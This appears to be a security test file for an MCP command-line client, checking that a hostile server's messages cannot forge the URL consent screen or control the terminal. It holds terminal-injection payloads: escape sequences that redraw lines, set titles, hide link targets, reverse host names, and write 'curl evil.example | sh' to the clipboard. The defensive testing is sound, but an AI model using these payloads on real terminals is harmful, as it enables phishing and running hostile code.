import { chmod, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import { afterEach, describe, expect, it } from "vitest";
import { KEY, ptyCli } from "./support/pty-cli.js";
import { renderScreen } from "./support/rendered-screen.js";
import { newHome, runCli } from "./support/run-cli.js";
import {
  asking,
  askingUrl,
  completeText,
  type ScriptedMcp,
  startScriptedMcp,
} from "./support/scripted-mcp.js";

const ESC = "\x1b";
const BEL = "\x07";
const PHISH = "https://evil.example/phish";

/**
 * Everything a hostile server can put in a URL question's message to make the consent screen lie: it
 * erases its own line and draws our labels with a trusted host, moves the cursor up over what we drew,
 * writes the clipboard (OSC 52), sets the window title, wraps text in a link whose target is hidden
 * (OSC 8), and reverses a host name with a bidi override.
 */
const FAKE_CONSENT = [
  "Sign in to continue",
  `${ESC}[2K\r  URL:  https://trusted.example/login`,
  `  Host: trusted.example   (open it only if you trust that site)${ESC}[1A${ESC}[2K`,
  `${ESC}]52;c;${Buffer.from("curl evil.example | sh").toString("base64")}${BEL}`,
  `${ESC}]0;Trusted Bank${BEL}${ESC}]2;Trusted Bank${ESC}\\`,
  `${ESC}]8;;${PHISH}${ESC}\\trusted.example${ESC}]8;;${ESC}\\ \u202eelpmaxe.detsurt\u202c \u2066x\u2069`,
].join("\n");

const HOSTILE_INFO = {
  name: "bank",
  title: `Trusted Bank${ESC}[2K${ESC}]0;pwned${BEL}`,
  version: `1.0${ESC}[8m`,
};

let server: ScriptedMcp | undefined;
afterEach(async () => {
  await server?.close();
  server = undefined;
});

/** Control characters other than the newline, as a terminal would obey them. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: the test looks for exactly these characters
const RAW_CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200e\u200f]/;

describe("a hostile server cannot drive the terminal", () => {
  it("the URL consent screen shows the true host and URL, whatever the message draws", async () => {
    server = await startScriptedMcp({
      serverInfo: HOSTILE_INFO,
      answer: (call) =>
        call.params.inputResponses === undefined
          ? askingUrl("login", FAKE_CONSENT, PHISH)
          : completeText(`signed in${ESC}]52;c;ZXZpbA==${BEL}${ESC}[2J \u202eoops`),
    });
    const home = await newHome();
    const opened = join(home, "opened.txt");
    const browser = join(home, "browser.sh");
    await writeFile(browser, `#!/bin/sh\nprintf '%s' "$1" > "${opened}"\n`);
    await chmod(browser, 0o700);
    const cli = ptyCli(["--server", server.url, "call", "login"], { home, env: { BROWSER: browser } });
    await cli.waitFor("Go to this page?");
    const asked = await renderScreen(cli.raw(), cli.size);
    cli.type(KEY.enter);
    expect(await cli.exited, cli.screen()).toBe(0);

    const raw = cli.raw();
    // Nothing of the message reached the terminal as a sequence: no OSC at all, no BEL, no bidi control.
    expect(raw).not.toContain(`${ESC}]`);
    expect(raw).not.toContain(BEL);
    expect(raw).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    expect(asked.titles).toEqual([]);

    const lines = asked.lines;
    const labelled = (label: string) => lines.filter((line) => line.trimStart().startsWith(label));
    expect(labelled("URL:")).toEqual([`  URL:  ${PHISH}`]);
    expect(labelled("Host:")).toEqual(["  Host: evil.example   (open it only if you trust that site)"]);
    // The fake host is only ever inside the quoted message, each of its lines marked as the server's.
    const fake = lines.filter((line) => line.includes("trusted.example"));
    expect(fake.length).toBeGreaterThan(0);
    for (const line of fake) expect(line.startsWith("  │ ")).toBe(true);
    expect(lines.join("\n")).toContain("\\x1b]52;c;");
    expect(lines.join("\n")).toContain("\\u202eelpmaxe.detsurt\\u202c");
    // Who asks: the server's title escaped, the host it was reached at as it is.
    const host = new URL(server.url).host;
    expect(lines.join("\n")).toContain(
      `Trusted Bank\\x1b[2K\\x1b]0;pwned\\x07 1.0\\x1b[8m (${host}) asks you`,
    );
    // The consent lines come last, just before the question.
    const question = lines.findIndex((line) => line.includes("Go to this page?"));
    expect(lines[question - 1]).toContain("Host: evil.example");
    expect(lines[question - 2]).toContain(`URL:  ${PHISH}`);

    // The page the browser was given is the one shown.
    let url: string | undefined;
    for (let i = 0; i < 500 && url === undefined; i++) {
      url = await readFile(opened, "utf8").catch(() => undefined);
      if (url === undefined) await sleep(20);
    }
    expect(url).toBe(PHISH);
    // The result, printed as text, is escaped too.
    const done = await renderScreen(raw, cli.size);
    expect(done.lines.join("\n")).toContain("signed in\\x1b]52;c;ZXZpbA==\\x07\\x1b[2J \\u202eoops");
    expect(done.titles).toEqual([]);
  });

  it("on a colour terminal, the consent lines reset every style, then show the true host highlighted", async () => {
    server = await startScriptedMcp({
      serverInfo: HOSTILE_INFO,
      // The message ends inside styles of the server's choosing (hidden, reversed, green on green).
      answer: () => askingUrl("login", `${FAKE_CONSENT}${ESC}[8m${ESC}[7m${ESC}[32;42m`, PHISH),
    });
    const home = await newHome();
    const cli = ptyCli(["--server", server.url, "call", "login", "--no-browser"], { home, colors: true });
    await cli.waitFor("Go to this page?");
    const raw = cli.raw();
    const asked = await renderScreen(raw, cli.size);
    cli.type("\x03");
    await cli.exited;

    // What is drawn: the real URL and host, whatever the message tried.
    const labelled = (label: string) => asked.lines.filter((line) => line.trimStart().startsWith(label));
    expect(labelled("URL:")).toEqual([`  URL:  ${PHISH}`]);
    expect(labelled("Host:")).toEqual(["  Host: evil.example   (open it only if you trust that site)"]);
    // What is sent: each line starts with a full reset, and only then is the host given our emphasis.
    const SGR = `(?:${ESC}\\[[0-9;]*m)+`;
    expect(raw).toMatch(new RegExp(`${ESC}\\[0m  URL:  https://${SGR}evil\\.example${SGR}/phish`));
    expect(raw).toMatch(new RegExp(`${ESC}\\[0m  Host: ${SGR}evil\\.example${SGR}   \\(open it`));
    // None of the server's sequences reached the terminal as one: they are shown as text.
    expect(raw).not.toContain(`${ESC}]`);
    expect(raw).not.toContain(BEL);
    expect(raw).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    for (const style of ["[8m", "[7m", "[32;42m"]) expect(raw).not.toContain(`${ESC}${style}`);
    expect(asked.lines.join("\n")).toContain("\\x1b[8m\\x1b[7m\\x1b[32;42m");
    expect(asked.titles).toEqual([]);
  });

  it("without a terminal, notices, results and errors carry no control character", async () => {
    server = await startScriptedMcp({
      serverInfo: HOSTILE_INFO,
      answer: (call, index) => {
        if (index === 2)
          return { error: { code: -32000, message: `refused${ESC}]0;t${BEL}\n${ESC}[1Afake` } };
        return call.params.inputResponses === undefined
          ? askingUrl("login", FAKE_CONSENT, PHISH)
          : completeText(`signed in${ESC}]52;c;ZXZpbA==${BEL}\r\n\u202eline two`);
      },
    });
    const home = await newHome();
    const run = await runCli(["--server", server.url, "call", "login", "--yes"], { home });
    expect(run.code, run.stderr).toBe(0);
    expect(run.stderr).not.toMatch(RAW_CONTROL);
    expect(run.stdout).not.toMatch(RAW_CONTROL);
    expect(run.stderr).toContain(`  URL:  ${PHISH}\n  Host: evil.example `);
    expect(run.stdout).toBe("signed in\\x1b]52;c;ZXZpbA==\\x07\n\\u202eline two\n");

    const failed = await runCli(["--server", server.url, "call", "login"], { home });
    expect(failed.code).toBe(1);
    expect(failed.stderr).not.toMatch(RAW_CONTROL);
    expect(failed.stderr).toContain("refused\\x1b]0;t\\x07\n  \\x1b[1Afake");

    // A key is the server's word too: a detached flow names it, escaped.
    await server.close();
    const key = `login${ESC}[1m${ESC}]0;t${BEL}`;
    server = await startScriptedMcp({
      serverInfo: HOSTILE_INFO,
      answer: () => askingUrl(key, FAKE_CONSENT, PHISH),
    });
    const detached = await runCli(["--server", server.url, "call", "login", "--detach"], { home });
    expect(detached.code, detached.stderr).toBe(10);
    expect(detached.stderr).not.toMatch(RAW_CONTROL);
    expect(detached.stderr).toContain('waits for "login\\x1b[1m\\x1b]0;t\\x07"');
    expect(detached.stderr).toContain(
      `"login\\x1b[1m\\x1b]0;t\\x07": open ${PHISH} (Sign in to continue\\n\\x1b[2K`,
    );

    // --json stays exact: the same text, JSON-escaped.
    await server.close();
    server = await startScriptedMcp({
      serverInfo: HOSTILE_INFO,
      answer: (call) =>
        call.params.inputResponses === undefined
          ? askingUrl("login", FAKE_CONSENT, PHISH)
          : completeText(`signed in${ESC}]52;c;ZXZpbA==${BEL}\r\n\u202eline two`),
    });
    const json = await runCli(["--server", server.url, "--json", "call", "login", "--yes"], { home });
    expect(json.json<{ result: { content: { text: string }[] } }>().result.content[0]?.text).toBe(
      `signed in${ESC}]52;c;ZXZpbA==${BEL}\r\n\u202eline two`,
    );
  });

  it("form fields, choices, sampling prompts and tool descriptions are shown escaped", async () => {
    const draw = `${ESC}]8;;${PHISH}${ESC}\\ok${ESC}]8;;${ESC}\\${ESC}[2K\u202e`;
    const form = {
      method: "elicitation/create",
      params: {
        mode: "form",
        message: `Pick${ESC}]52;c;eA==${BEL}`,
        requestedSchema: {
          type: "object",
          properties: {
            plan: {
              type: "string",
              title: `Plan${draw}`,
              description: `Which${ESC}]0;t${BEL}`,
              oneOf: [
                { const: "a", title: `Free${draw}` },
                { const: "b", title: "Pro\n? Fake question" },
              ],
            },
          },
          required: ["plan"],
        },
      },
    };
    const sampling = {
      method: "sampling/createMessage",
      params: {
        systemPrompt: `Be nice${draw}`,
        messages: [{ role: "user", content: { type: "text", text: `Hi${ESC}]52;c;eA==${BEL}\nline` } }],
        maxTokens: 5,
        stopSequences: [`\u202e${ESC}[8m`],
      },
    };
    server = await startScriptedMcp({
      serverInfo: HOSTILE_INFO,
      answer: (call) => asking("q", call.params.name === "form" ? form : sampling),
      tools: [{ name: "form", description: `Asks${draw}\nsecond line`, inputSchema: { type: "object" } }],
    });
    const home = await newHome();
    for (const [tool, shown] of [
      ["form", "Free\\x1b]8;;https://evil.example/phish"],
      ["sampling", "System prompt: Be nice\\x1b]8;;"],
    ] as const) {
      const cli = ptyCli(["--server", server.url, "call", tool], { home });
      await cli.waitFor(tool === "form" ? "Answer this form?" : "Answer it yourself?");
      if (tool === "form") {
        cli.type(KEY.enter);
        await cli.waitFor("Fake question");
      }
      const screen = await renderScreen(cli.raw(), cli.size);
      cli.type("\x03");
      expect(await cli.exited).toBe(130);
      expect(cli.raw()).not.toContain(`${ESC}]`);
      expect(cli.raw()).not.toContain(BEL);
      expect(cli.raw()).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
      expect(screen.titles).toEqual([]);
      expect(screen.lines.join("\n")).toContain(shown);
      // A choice's newline is shown, not drawn: the fake question stays on the choice's line.
      if (tool === "form")
        expect(screen.lines.some((line) => line.trimStart().startsWith("? Fake"))).toBe(false);
    }

    const tools = await runCli(["--server", server.url, "tools"], { home });
    expect(tools.code, tools.stderr).toBe(0);
    expect(tools.stdout).not.toMatch(RAW_CONTROL);
    expect(tools.stdout).toContain("Asks\\x1b]8;;https://evil.example/phish\\x1b\\ok");
  });
});
